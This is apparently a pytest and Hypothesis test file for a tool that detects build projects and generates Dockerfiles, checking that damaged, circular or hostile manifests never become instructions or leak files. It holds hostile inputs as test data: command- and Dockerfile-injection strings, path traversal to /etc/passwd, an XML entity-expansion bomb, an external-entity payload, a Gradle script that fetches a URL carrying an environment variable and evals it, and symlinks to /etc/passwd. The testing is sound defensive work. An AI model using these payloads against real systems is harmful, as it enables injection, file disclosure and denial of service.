"""Manifests that are cut off, of the wrong types, endless, circular or hostile: a problem or a right answer, never an exception.

The seeds are the projects of tests/data/project_table; one file of each is damaged. What is still written of them stays
one instruction per instruction, as BuildKit's own parser reads it.
"""

from __future__ import annotations

import random
import re
import tempfile
import time
from pathlib import Path

import dockerfile as buildkit
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from slimdesk.basics.errors import BadInput
from slimdesk.basics.escaping import without_controls
from slimdesk.catalog.catalog import load_catalog
from slimdesk.cli.detect import project_json
from slimdesk.operations.detect import open_project
from slimdesk.project.model import Project
from slimdesk.recipes.generate import fits, generate
from slimdesk.recipes.model import Options
from tests.unit.project.project_table import Row, read_table

CATALOG = load_catalog(Path("/no/own/images"))
TABLE = read_table()
# What one detection may take, in seconds of the processor, whatever else runs.
LIMIT = 1.0
BOMB = (
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://127.0.0.1:9/">%y;]>'
WORDS = [
    "x\nRUN touch /pwned", '"; RUN touch /pwned #', "'; touch /pwned #", "$(touch /pwned)", "`touch /pwned`", "${PATH}", "a\\\nUSER root",
    "\\", "\x1b[2J\x07", "\u202egnp.exe", "<<EOF", "--from=evil", "# escape=`", "\x00", "é漢🎉", '\r\nENTRYPOINT ["/bin/sh"]',
    "../../../etc/passwd", "/etc/passwd", ".", "..", "", "*", "-rf", "9" * 5_000, "(a+)+$", "%s%n", "a" * 70_000, "C:\\x", "-1", "1e999",
]  # fmt: skip
VALUES = ["[]", "{}", "null", "true", "-1", "1e999", "[[[]]]", '{"a":{"b":[]}}', '""', '{"":""}']
OPENINGS = ["[", "{", "(", "<a>", '{"a":', "$(", "${", "/*", "'", '"', "<!--", "#if 1\n", "- "]
TOKEN = re.compile(r"\"[^\"\n]*\"|'[^'\n]*'|[A-Za-z_][\w.-]{2,}|\d[\d.]*")


def checked(project: Project) -> Project:
    """Write all that can be written of a project, and see that nothing of it became an instruction."""
    for component in project_json(project)["components"]:
        assert component["port"] is None or 0 < component["port"] < 65_536
    for component in (*project.components, *project.joined):
        families = [fit.family for fit in fits(component, CATALOG) if fit.available]
        for family in (*families, None):
            try:
                generated = generate(component, family, CATALOG, Options(healthcheck=True))
            except BadInput:
                continue  # too long to be written, and that is said
            instructions = list(generated.dockerfile.instructions())
            read = [command.cmd.upper() for command in buildkit.parse_string(generated.text)]
            assert read == [one.keyword for one in instructions]
            users = [one.arguments[0] for one in instructions if one.keyword == "USER"]
            assert family is None or re.fullmatch(r"[1-9]\d*(?::\d+)?", users[-1])
            for line in (generated.text + generated.dockerignore).split("\n"):
                assert without_controls(line) == line
    return project


def in_time(root: Path) -> Project:
    """Detect, and see that it does not take long."""
    began = time.process_time()
    project = open_project(root)
    assert time.process_time() - began < LIMIT
    return project


def damaged(chance: random.Random, text: str) -> bytes:
    """One text with one fault."""
    kind, at = chance.randrange(8), chance.randrange(len(text) + 1)
    tokens = list(TOKEN.finditer(text))
    lines = text.splitlines(keepends=True)
    if kind == 0:
        return text[:at].encode()
    if kind == 1:
        return text[:at].encode() + chance.randbytes(20) + text[at:].encode()
    if kind in (2, 3, 4) and tokens:
        token = chance.choice(tokens)
        word, quote = chance.choice(WORDS), token.group()[0]
        if quote in "\"'" and chance.random() < 0.8:
            word = quote + word.replace(quote, chance.choice(("", "\\" + quote))) + quote
        return (text[: token.start()] + word + text[token.end() :]).encode()
    if kind == 5 and tokens:
        token = chance.choice(tokens)
        return (text[: token.start()] + chance.choice(VALUES) + text[token.end() :]).encode()
    if kind == 6:
        return (text[:at] + chance.choice(OPENINGS) * chance.choice((10, 3_000, 30_000)) + text[at:]).encode()
    chance.shuffle(lines)
    return "".join(lines).encode()


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from(TABLE), st.integers(0, 2**32))
def test_one_damaged_file(row: Row, seed: int):
    chance = random.Random(seed)
    with tempfile.TemporaryDirectory() as folder:
        root = row.write(Path(folder))
        name = chance.choice(sorted(row.files))
        (root / name).write_bytes(damaged(chance, row.files[name]))
        checked(in_time(root))


MANIFESTS = {
    "pom.xml": "<project>{}</project>",
    "build.gradle": "plugins {{ id 'java' }}\n{}\n",
    "build.gradle.kts": "plugins {{ java }}\n{}\n",
    "settings.gradle": "include '{}'\n",
    "Cargo.toml": '[package]\nname = "x"\nversion = "{}"\n',
    "CMakeLists.txt": "project(x)\nadd_executable(x {})\n",
    "meson.build": "project('x', 'c')\nexecutable('x', '{}')\n",
    "configure.ac": "AC_INIT([x], [{}])\nAC_OUTPUT\n",
    "Makefile": "x: x.c\n\tcc -o x {}\n",
    "x.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web">{}</Project>',
    "x.sln": 'Project("{{1}}") = "x", "{}", "{{2}}"\nEndProject\n',
    "x.slnx": '<Solution><Project Path="{}" /></Solution>',
    "Directory.Build.props": "<Project>{}</Project>",
    "composer.json": '{{"require": {{"php": "{}"}}}}',
    "composer.lock": '{{"packages": ["{}"]}}',
    "Gemfile": 'gem "rails", "{}"\n',
    "Gemfile.lock": "GEM\n  specs:\n    rails ({})\n",
    "deno.json": '{{"tasks": {{"start": "deno run {}"}}}}',
    "deno.jsonc": '{{"tasks": {{"start": "deno run {}"}}}}',
    "bun.lock": '{{"packages": {{"a": ["{}"]}}}}',
    "angular.json": '{{"projects": {{"x": "{}"}}}}',
    "vite.config.ts": "export default {{ build: {{ outDir: '{}' }} }}\n",
    "package.json": '{{"name": "{}", "scripts": {{"start": "node x.js", "build": "vite build"}}, "devDependencies": {{"vite": "6"}}}}',
    "deployment.yaml": "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n        - command: ['{}']\n",
    "compose.yaml": "services:\n  x:\n    build: '{}'\n",
    "Procfile": "web: {}\n",
    "slimdesk.toml": "[components.x]\nentrypoint = '{}'\n",
}
FILLINGS = {
    "nothing": b"",
    "huge line": b"a" * 2_000_000,
    "huge lines": b"a = 1\n" * 350_000,
    "brackets": b"[" * 200_000,
    "braces": b"{" * 200_000,
    "elements": b"<a>" * 100_000,
    "calls": b"x(" * 100_000,
    "quotes": b"\"'" * 200_000,
    "comments": b"/* # // <!-- " * 30_000,
    "blanks": b" \t" * 500_000,
    "not UTF-8": bytes(range(128, 256)) * 100,
    "zeros": b"\x00" * 100_000,
    "variables": b"${" * 100_000,
    "continuations": b"\\\n" * 200_000,
}


@pytest.mark.parametrize("filling", FILLINGS, ids=str)
@pytest.mark.parametrize("name", MANIFESTS, ids=str)
def test_what_fills_a_manifest(make_folder, name, filling):
    before, after = (
        part.replace("{{", "{").replace("}}", "}").encode() for part in MANIFESTS[name].split("{}")
    )
    files = {
        name: before + FILLINGS[filling] + after,
        "x.c": "int main() {}",
        "Program.cs": "app.Run();",
        "x.js": "process.exit()",
    }
    checked(in_time(make_folder(files)))
    bare = make_folder({name: FILLINGS[filling]})
    checked(in_time(bare))


@pytest.mark.parametrize("head", [BOMB, OUTSIDE], ids=["bomb", "outside"])
@pytest.mark.parametrize(
    "name",
    [
        "pom.xml",
        "x.csproj",
        "x.fsproj",
        "x.slnx",
        "Directory.Build.props",
        "Directory.Packages.props",
        "nuget.config",
    ],
)
def test_entities_are_never_resolved(make_folder, name, head):
    body = "<project><artifactId>&d;&x;</artifactId><TargetFramework>&d;&x;</TargetFramework></project>"
    project = checked(
        in_time(make_folder({name: head + body, "a.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web"/>'}))
    )
    assert "root:" not in str(project_json(project))
    assert "aaaaaaaaaaaaaaaaaaaa" not in str(project_json(project))
    if name in ("pom.xml", "x.csproj", "x.fsproj"):
        assert any(name in problem.message for problem in project.problems)


POM = (
    "<project><modelVersion>4.0.0</modelVersion>{parent}<groupId>g</groupId><artifactId>{name}</artifactId><version>1</version>"
    "<packaging>{packaging}</packaging><modules>{modules}</modules></project>"
)
JAVA = "public class Main { public static void main(String[] args) {} }"
CIRCLES = {
    "a pom that is its own parent": {
        "pom.xml": POM.format(
            parent="<parent><groupId>g</groupId><artifactId>a</artifactId><version>1</version><relativePath>pom.xml</relativePath></parent>",
            name="a", packaging="jar", modules="",
        ),
        "src/main/java/Main.java": JAVA,
    },
    "poms that are each other's modules": {
        "pom.xml": POM.format(parent="", name="a", packaging="pom", modules="<module>b</module>"),
        "b/pom.xml": POM.format(parent="", name="b", packaging="pom", modules="<module>..</module><module>.</module>"),
        "b/src/main/java/Main.java": JAVA,
    },
    "a Gradle build that includes itself": {
        "settings.gradle": "include ':', ':a', ':a:a', '..', ':..:..:etc'\nincludeBuild '.'\nincludeBuild '../..'\n",
        "build.gradle": "apply from: 'build.gradle'\nplugins { id 'application' }\napplication { mainClass = 'Main' }\n",
        "src/main/java/Main.java": JAVA,
    },
    "a Cargo workspace of itself": {
        "Cargo.toml": '[workspace]\nmembers = [".", "a", "a/..", "../*", "/etc", "**"]\n[package]\nname = "x"\nversion = "1"\nworkspace = "a"\n',
        "a/Cargo.toml": '[package]\nname = "a"\nversion = "1"\nworkspace = ".."\n[workspace]\nmembers = [".."]\n[dependencies]\nx = {path = ".."}\n',
        "src/main.rs": "fn main() {}", "a/src/main.rs": "fn main() {}",
    },
    "npm workspaces of each other": {
        "package.json": '{"name": "a", "workspaces": [".", "b", "../..", "/etc", "b/.."], "dependencies": {"b": "*"}, "scripts": {"start": "npm start", "build": "npm run build"}}',
        "b/package.json": '{"name": "b", "workspaces": [".."], "main": "x.js", "dependencies": {"a": "*", "b": "*"}}',
        "b/x.js": "require('http').createServer().listen(1)",
    },
    "CMake folders of each other": {
        "CMakeLists.txt": "project(x)\nset(A ${A})\nset(B ${C})\nset(C ${B})\ninclude(CMakeLists.txt)\nadd_subdirectory(a)\nadd_subdirectory(../..)\nadd_executable(${B} main.c)\n",
        "a/CMakeLists.txt": "add_subdirectory(..)\nadd_subdirectory(.)\n", "main.c": "int main() {}",
    },
    "Meson folders of each other": {
        "meson.build": "project('x', 'c')\nsubdir('.')\nsubdir('..')\nsubdir('a')\nexecutable('x', 'main.c')\n",
        "a/meson.build": "subdir('..')\n", "main.c": "int main() {}",
    },
    "a Makefile of itself": {"Makefile": "include Makefile\nA = $(B)\nB = $(A)\n$(A): main.c\n\tcc -o $(A) main.c\n", "main.c": "int main() {}"},
    "projects of .NET that refer to each other": {
        "a/a.csproj": '<Project Sdk="Microsoft.NET.Sdk.Web"><Import Project="../b/b.csproj"/><Import Project="a.csproj"/><PropertyGroup><TargetFramework>$(X)</TargetFramework><X>$(X)</X></PropertyGroup><ItemGroup><ProjectReference Include="../b/b.csproj"/></ItemGroup></Project>',
        "b/b.csproj": '<Project Sdk="Microsoft.NET.Sdk"><ItemGroup><ProjectReference Include="../a/a.csproj"/><ProjectReference Include="/etc/x.csproj"/><ProjectReference Include="..\\..\\..\\x.csproj"/></ItemGroup></Project>',
        "a/Program.cs": "app.Run();",
    },
    "a TypeScript configuration that extends itself": {
        "package.json": '{"name": "x", "scripts": {"build": "tsc", "start": "node dist/index.js"}}',
        "tsconfig.json": '{"extends": "./tsconfig.json", "compilerOptions": {"outDir": "../../.."}, "references": [{"path": "."}]}',
        "src/index.ts": "console.log(1)",
    },
    "go.work and replacements that lead outside": {
        "go.work": "go 1.25\nuse (\n\t.\n\t..\n\t../..\n\t/etc\n)\n",
        "go.mod": "module x.y/z\n\ngo 1.25\n\nreplace x.y/z => ./\nreplace a.b/c => ../../../etc\n", "main.go": "package main\n\nfunc main() {}\n",
    },
    "Gemfiles of each other": {
        "Gemfile": 'eval_gemfile "Gemfile"\ngem "a", path: "../../.."\ngem "b", path: "."\ngemspec path: ".."\n', "config.ru": "run 1",
    },
    "requirements of each other": {"requirements.txt": "-r requirements.txt\n-r ../../x.txt\n-r b.txt\nflask\n", "b.txt": "-r requirements.txt\n", "main.py": "print()"},
    "uv members of each other": {
        "pyproject.toml": '[project]\nname = "a"\n[tool.uv.workspace]\nmembers = [".", "..", "b", "/etc", "**"]\n[tool.uv.sources]\nb = {workspace = true}\n',
        "b/pyproject.toml": '[project]\nname = "b"\ndependencies = ["a", "b"]\n[tool.uv.workspace]\nmembers = [".."]\n', "b/main.py": "print()",
    },
    "compose files that include each other": {
        "compose.yaml": "include: [compose.yaml, ../../x.yaml]\nservices:\n  a:\n    extends: {service: a, file: compose.yaml}\n    build: ../../..\n    env_file: /etc/passwd\n",
    },
    "a composer repository of itself": {
        "composer.json": '{"name": "a/a", "require": {"a/a": "*"}, "repositories": [{"type": "path", "url": "."}, {"type": "path", "url": "../../.."}], "autoload": {"psr-4": {"": "../.."}}}',
        "public/index.php": "<?php",
    },
}  # fmt: skip


@pytest.mark.parametrize("name", CIRCLES, ids=str)
def test_circles_end_and_nothing_leads_outside(make_folder, name):
    root = make_folder(CIRCLES[name])
    project = checked(in_time(root))
    for component in project.components:
        for path in (
            component.path,
            component.context,
            *(str(fact.evidence.path) for fact in component.facts if fact.evidence),
        ):
            assert not path.startswith("/")
            assert ".." not in path.split("/")
            assert (root / path).exists()


def test_a_parent_that_is_not_there_is_no_reason_to_give_up(make_folder):
    parent = "<parent><groupId>com.acme</groupId><artifactId>company-parent</artifactId><version>7</version></parent>"
    pom = POM.format(parent=parent, name="shop", packaging="jar", modules="").replace(
        "<modules></modules>", ""
    )
    (component,) = checked(in_time(make_folder({"pom.xml": pom, "src/main/java/Main.java": JAVA}))).components
    assert (component.name, component.profile, component.package_manager) == ("shop", "java", "maven")
    assert component.entrypoint is not None


@pytest.mark.parametrize("name", ["build.gradle", "build.gradle.kts"])
def test_a_gradle_build_that_nobody_can_read_without_running_it(make_folder, name):
    script = "def m = new URL('http://x/' + System.getenv('A')).text\napply plugin: m.trim()\nif (m) { eval(m) } else {\n"
    project = checked(in_time(make_folder({name: script, "src/main/java/Main.java": JAVA})))
    assert project.components or project.problems
    for component in project.components:
        assert component.profile == "java"


def test_links_are_not_followed(make_folder):
    root = make_folder(
        {"pom.xml": POM.format(parent="", name="a", packaging="pom", modules="<module>b</module>")}
    )
    (root / "b").symlink_to("/etc")
    (root / "package.json").symlink_to("/etc/passwd")
    (root / "loop").symlink_to(".")
    assert "root:" not in str(project_json(checked(in_time(root))))
